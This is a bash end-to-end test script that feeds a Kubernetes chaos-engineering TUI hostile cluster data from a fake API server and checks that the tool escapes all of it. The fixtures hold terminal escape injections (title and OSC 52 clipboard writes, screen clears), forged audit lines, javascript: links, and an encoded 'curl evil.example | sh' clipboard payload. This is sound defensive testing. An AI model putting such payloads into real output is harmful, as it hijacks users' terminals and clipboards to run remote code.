# shellcheck shell=bash
# Hostile cluster content, end to end: a scripted API server and Prometheus (hostile_server.py)
# serve title/clipboard escapes, 8-bit controls, bidi, zero-width and wide characters, | and
# newlines, HTML and javascript: links in pod labels, node names, events, logs, kube-monkey labels,
# alert names and the message of an API refusal. Sourced by run.sh (its helpers: start, keys,
# check, ok, bad, wait_for, screen, $T, $WORK, $BIN). Every command's raw terminal bytes are taken
# with tmux pipe-pane: none of the planted sequences may reach the terminal, the pane title and
# tmux's paste buffers must stay as they were, and the files written must be escaped and private.
HX="$WORK/hostile"
mkdir -p "$HX"
python3 Tests/e2e/hostile_server.py "$HX" > "$HX/ports" 2> "$HX/server.err" &
HX_SERVER=$!
for _ in $(seq 50); do [ -s "$HX/ports" ] && break; sleep 0.1; done
read -r HX_API HX_PROM < "$HX/ports"
cat > "$HX/kubeconfig" <<YAML
apiVersion: v1
kind: Config
current-context: hx
contexts:
- name: hx
  context: {cluster: hx, user: alice, namespace: hx}
clusters:
- name: hx
  cluster: {server: "http://127.0.0.1:$HX_API"}
users:
- name: alice
  user: {token: "hx-secret-token-4f2a"}
YAML
# An OSC 52 that got through would set a tmux paste buffer; an OSC 0 the pane's title.
$T set -s set-clipboard on
$T delete-buffer 2>/dev/null
# hx_start NAME W H ARGS...: like start, with the pane's raw output teed into $HX/NAME.raw.
hx_start() {
  local name=$1 w=$2 h=$3
  shift 3
  $T kill-session -t e2e 2>/dev/null
  $T new-session -d -s e2e -x "$w" -y "$h" "env -u LC_ALL PS1='$ ' LANG=C.UTF-8 TERM=tmux-256color bash --norc --noprofile"
  wait_for '^\$' 5
  # The title and the tee are in place before the command runs.
  $T select-pane -t e2e -T "$HX_TITLE"
  $T pipe-pane -t e2e -o "cat >> '$HX/$name.raw'"
  $T send-keys -t e2e "$* ; echo EXIT=\$?" Enter
}
# hx_clean NAME: none of the planted sequences in what the terminal received.
hx_clean() {
  local why
  why=$(python3 - "$HX/$1.raw" <<'PY'
import sys
raw = open(sys.argv[1], "rb").read()
planted = {"OSC (title, clipboard)": b"\x1b]", "PWNED-TITLE with BEL": b"PWNED-TITLE\x07", "8-bit CSI": b"\xc2\x9b",
           "cursor report request": b"\x1b[6n", "clear screen": b"\x1b[2J", "bidi override": "\u202e".encode(),
           "zero-width space": "\u200b".encode(), "BOM": "\ufeff".encode(), "BEL": b"\x07"}
found = [k for k, v in planted.items() if v in raw]
print(", ".join(found) if found else ("" if raw else "nothing captured"))
PY
)
  if [ -z "$why" ] && [ "$($T display -p -t e2e '#{pane_title}')" = "$HX_TITLE" ] && [ -z "$($T list-buffers)" ]; then
    ok "$1: no planted sequence reached the terminal; title and paste buffers unchanged"
  else
    bad "$1: the terminal got: ${why:-a changed title or paste buffer} ($($T display -p -t e2e '#{pane_title}'); $($T list-buffers))"
  fi
}
hx_private() { # hx_private FILE...: each 0600
  local f
  for f in "$@"; do
    if [ "$(stat -c %a "$f" 2>/dev/null)" != 600 ]; then bad "$f is private (0600): $(stat -c %a "$f" 2>&1)"; return; fi
  done
  ok "the files written are private (0600): $(for f in "$@"; do basename "$f"; done | tr '\n' ' ')"
}
HX_TITLE=chaostui-e2e-title
HXC=(--kubeconfig "$HX/kubeconfig")

# The console: logs, events, labels, node names and alerts on screen; a pod kill the API refuses in
# hostile words; the report from R; the cast.
hx_start console 120 36 "$BIN" "${HXC[@]}" --prometheus "http://127.0.0.1:$HX_PROM" --log "$HX/audit.log" --record "$HX/s.jsonl" --cast "$HX/s.cast"
check "hostile: the console connects to the fake cluster" 'ctx hx ns hx .*connected' 10
check "... the planted alert shows, its escapes as ?" 'alert Evil\?\]0;PWNED-TITLE' 10
keys Down l
check "... the log's escapes as ?, wide characters in two cells, the border intact" 'line 0 \?\]0;PWNED-TITLE.*⌚☔🀄日本 \| forged' 5
if screen | grep -q '⌚' && ! screen | grep '⌚' | grep -qv '│$'; then ok "... a row of wide characters keeps its pane's right border"; else bad "wide characters broke a border"; fi
keys f k y
check "... the refusal is shown in its words, escaped" 'failed: delete pod hx/flask-1: forbidden: \?\]0;PWNED' 5
keys R
check "... R writes the report" 'Report: .*s\.html' 5
keys Escape q
check "... quits" 'EXIT=0' 10
hx_clean console
if [ "$(grep -c '' "$HX/audit.log")" -gt 0 ] && ! grep -q $'\x1b' "$HX/audit.log" && ! grep -q '^2026-12-03T10:00:00Z' "$HX/audit.log"; then
  ok "--log: one record a line, escapes escaped, no forged audit line"
else bad "--log escaped" ; fi
if grep -q 'forbidden: \\x1b\]0;PWNED-TITLE\\x07.*\\n2026-12-03T10:00:00Z audit' "$HX/audit.log"; then ok "... the refusal's newline is written \\n inside its own record"; else bad "refusal in the log" ; fi
if ! grep -q 'hx-secret-token' "$HX/audit.log" "$HX/s.jsonl" "$HX/s.md" "$HX/s.html" "$HX/s.cast" "$HX"/console.raw; then ok "no token in any file or on the terminal"; else bad "token leaked"; fi
hx_private "$HX/audit.log" "$HX/s.jsonl" "$HX/s.md" "$HX/s.json" "$HX/s.html" "$HX/s.cast"
if ! grep -Eq '<script|<img|\]\(javascript:|!\[' "$HX/s.md" && ! grep -q '| forged |' "$HX/s.md" && ! grep -q $'\x1b' "$HX/s.md"; then
  ok "the Markdown report: no raw HTML, no link or image, no forged column, no escape"
else bad "Markdown report escaped" ; fi
if python3 -c "import json,sys; [json.loads(l) for l in open(sys.argv[1]) if l.strip()]" "$HX/s.cast" \
  && ! grep -q 'PWNED' <(python3 -c "import json,sys; [print(e[2]) for e in map(json.loads, list(open(sys.argv[1]))[1:]) if e[1]=='m']" "$HX/s.cast"); then
  ok "the cast's markers come from chaostui's own entries only"
else bad "cast markers"; fi

# report: the Markdown on the terminal; two sessions side by side.
hx_start report 120 36 "$BIN" report "$HX/s.jsonl"
check "hostile: report prints the Markdown" 'EXIT=0' 10
hx_clean report
hx_start compare 120 36 "$BIN" report "$HX/s.jsonl" "$HX/s.jsonl"
check "hostile: report A B prints the comparison" 'EXIT=0' 10
hx_clean compare
# Files: no overwrite without --force, never through a symlink.
ln -s "$HX/victim" "$HX/link.json"
echo keep > "$HX/victim"
start 120 20 "$BIN" report "$HX/s.jsonl" --md "$HX/s.md" --json "$HX/link.json"
check "report refuses to overwrite an existing file" 's\.md exists \(use --force to replace it\)' 10
start 120 20 "$BIN" report "$HX/s.jsonl" --force --json "$HX/link.json"
check "report --force still refuses a symlink" 'link\.json is a symbolic link' 10
if [ "$(cat "$HX/victim")" = keep ]; then ok "... the symlink's target is untouched"; else bad "wrote through a symlink"; fi

# replay: the recorded session on screen again; R there takes a fresh name.
hx_start replay 120 36 "$BIN" replay "$HX/s.jsonl"
check "hostile: the replay opens" 'REPLAY' 10
HX_MD=$(md5sum < "$HX/s.md")
keys R
# The files, not the footer: a message the replay plays back may take the footer first.
for _ in $(seq 50); do [ -s "$HX/s-2.html" ] && break; sleep 0.2; done
if [ -s "$HX/s-2.md" ] && [ -s "$HX/s-2.json" ] && [ -s "$HX/s-2.html" ] && [ "$(md5sum < "$HX/s.md")" = "$HX_MD" ]; then
  ok "... R in a replay never overwrites: the report goes to the next free name (s-2.*)"
else bad "R in a replay: a fresh name"; fi
keys q
check "... quits" 'EXIT=0' 10
hx_clean replay

# run: an experiment whose title carries escapes; the API refuses the kill in hostile words.
printf '%s\n' 'title: "Evil \e]0;PWNED-TITLE\a\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a\e[2J\u202e run"' \
  'groups: {experimental: {namespace: hx}}' 'method:' '  - fault: pod-kill' '    target: {workload: flask}' \
  'hypotheses:' '  - name: "it recovers \e[6n"' '    recovers-within: 30s' > "$HX/evil.yaml"
hx_start run 160 36 "$BIN" run "$HX/evil.yaml" "${HXC[@]}" --no-record --report "$HX/run.md"
check "hostile: chaostui run ends, the refusal in its verdict" 'aborted: pod-kill on .* failed: .*forbidden: \\x1b\]0;PWNED' 30
check "... exit 2" 'EXIT=2' 10
hx_clean run

# monkey: kube-monkey labels with hostile values, named as mistakes.
hx_start monkey 160 36 "$BIN" monkey "${HXC[@]}" -n hx --for 3s --no-record
check "hostile: chaostui monkey names the bad label, escaped" 'kube-monkey/mtbf "\\x1b\]0;PWNED' 15
check "... and ends" 'EXIT=0' 15
hx_clean monkey

# A container log that never ends its line: memory stays bounded for a minute; closing the pane
# ends the download at once.
start 120 36 "$BIN" "${HXC[@]}" --no-record
check "endless log: the console starts" 'endless-1 ' 10
keys l
check "... the endless line is cut into pieces" 'Logs endless-1 .*following' 5
HX_PID=$(pgrep -f "$BIN ${HXC[*]} --no-record" | head -1)
peak=0
for _ in $(seq 30); do
  sleep 2
  rss=$(ps -o rss= -p "$HX_PID" 2>/dev/null || echo 0)
  [ "${rss:-0}" -gt "$peak" ] && peak=$rss
done
if [ "$peak" -gt 0 ] && [ "$peak" -lt 153600 ]; then ok "... RSS stays under 150 MiB for a minute of a line that never ends (peak $((peak / 1024)) MiB)"; else bad "endless log memory (peak $((peak / 1024)) MiB)"; fi
keys Escape
sleep 3
if grep -q closed "$HX/endless"; then ok "... Esc closes the pane and the stream ends at once"; else bad "the endless stream kept going after the pane closed"; fi
keys q
check "... quits" 'EXIT=0' 10
# --speed runs the demo's clock: on a real cluster it is refused, with the reason.
start 160 20 "$BIN" "${HXC[@]}" --speed 5 --no-record
check "--speed on a real cluster is refused with the reason" "speed 5\.0 runs the demo's clock.*drop --speed, or add --demo" 10
kill "$HX_SERVER" 2>/dev/null
